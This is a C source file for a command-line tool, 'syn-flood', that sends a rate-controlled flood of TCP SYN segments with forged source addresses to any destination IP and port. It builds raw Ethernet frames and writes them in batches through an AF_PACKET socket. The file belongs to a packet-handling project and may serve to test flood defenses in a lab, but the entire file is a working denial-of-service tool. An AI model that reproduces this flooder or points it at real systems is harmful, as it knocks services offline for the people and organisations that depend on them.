/* syn-flood.c: a SYN flood from forged sources. SPDX-License-Identifier: Apache-2.0
 *
 *   syn-flood DEV --to MAC --destination IP --port N [--rate PPS]
 *       SYN segments, each from another source in 10.200.0.0/16 or 2001:db8:200::/64, until SIGTERM; says "flooding" on stdout
 *       with the first, and then how many it sent.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "packet/handshake.h"
#include "packet/protocol.h"

enum { BATCH = 50, FRAME_MAX = ETHERNET_HEADER + HANDSHAKE_MAX };

static volatile sig_atomic_t stopped;

static void
stop(int signal)
{
	stopped = signal;
}

struct order {
	const char *device;
	uint8_t to[6];
	struct flow_key key;
	uint32_t rate;
};

static bool
read_order(int argc, char **argv, struct order *o)
{
	*o = (struct order){ .rate = 1000, .key.protocol = PROTOCOL_TCP };
	if (argc < 2)
		return false;
	o->device = argv[1];
	for (int i = 2; i + 1 < argc; i += 2) {
		uint8_t *m = o->to;
		if (strcmp(argv[i], "--to") == 0) {
			if (sscanf(argv[i + 1], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", m, m + 1, m + 2, m + 3, m + 4,
				   m + 5) != 6)
				return false;
		} else if (strcmp(argv[i], "--destination") == 0) {
			bool inet6 = strchr(argv[i + 1], ':');
			o->key.family = inet6 ? ADDRESS_FAMILY_INET6 : ADDRESS_FAMILY_INET;
			if (inet_pton(inet6 ? AF_INET6 : AF_INET, argv[i + 1], o->key.destination.byte) != 1)
				return false;
		} else if (strcmp(argv[i], "--port") == 0) {
			o->key.destination_port = htons((uint16_t)atoi(argv[i + 1]));
		} else if (strcmp(argv[i], "--rate") == 0) {
			o->rate = (uint32_t)atoi(argv[i + 1]);
		} else {
			return false;
		}
	}
	return o->key.family && o->key.destination_port && o->rate > 0;
}

static uint16_t
write_frame(uint8_t *frame, const struct order *o, uint32_t n)
{
	struct flow_key k = o->key;
	struct handshake syn = {
		.sequence = n * 2654435761u, .window = 64240, .flags = TCP_SYN, .mss = 1460, .scale = 7, .sack = true
	};
	bool inet6 = k.family == ADDRESS_FAMILY_INET6;
	if (inet6)
		memcpy(k.source.byte, (const uint8_t[]){ 0x20, 1, 0x0d, 0xb8, 2 }, 5);
	else
		memcpy(k.source.byte, (const uint8_t[]){ 10, 200 }, 2);
	k.source.byte[inet6 ? 14 : 2] = (uint8_t)(n >> 8);
	k.source.byte[inet6 ? 15 : 3] = (uint8_t)n;
	k.source_port = htons((uint16_t)(1024 + n % 60000));
	memcpy(frame, o->to, 6);
	memcpy(frame + 6, (const uint8_t[]){ 2, 0, 0, 0, 0, 1 }, 6);
	frame[12] = inet6 ? 0x86 : 0x08;
	frame[13] = inet6 ? 0xdd : 0x00;
	return (uint16_t)(ETHERNET_HEADER + handshake_build(frame + ETHERNET_HEADER, &k, &syn));
}

static bool
send_batch(int fd, const struct order *o, uint32_t *n)
{
	static uint8_t frame[BATCH][FRAME_MAX];
	struct iovec part[BATCH];
	struct mmsghdr message[BATCH] = { 0 };
	for (unsigned i = 0; i < BATCH; i++) {
		part[i] = (struct iovec){ frame[i], write_frame(frame[i], o, ++*n) };
		message[i].msg_hdr = (struct msghdr){ .msg_iov = &part[i], .msg_iovlen = 1 };
	}
	return sendmmsg(fd, message, BATCH, 0) == BATCH;
}

int
main(int argc, char **argv)
{
	struct order o;
	uint32_t sent = 0;
	struct timespec next;
	if (!read_order(argc, argv, &o)) {
		fprintf(stderr, "usage: syn-flood DEV --to MAC --destination IP --port N [--rate PPS]\n");
		return 2;
	}
	struct sockaddr_ll address = { .sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(o.device) };
	int fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (fd < 0 || address.sll_ifindex == 0 || bind(fd, (struct sockaddr *)&address, sizeof address)) {
		perror("syn-flood");
		return 2;
	}
	signal(SIGTERM, stop);
	signal(SIGINT, stop);
	clock_gettime(CLOCK_MONOTONIC, &next);
	while (!stopped && send_batch(fd, &o, &sent)) {
		if (sent == BATCH) {
			puts("flooding");
			fflush(stdout);
		}
		next.tv_nsec += (long)(1000000000ull * BATCH / o.rate);
		next.tv_sec += next.tv_nsec / 1000000000;
		next.tv_nsec %= 1000000000;
		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
	}
	printf("%u\n", sent);
	return 0;
}
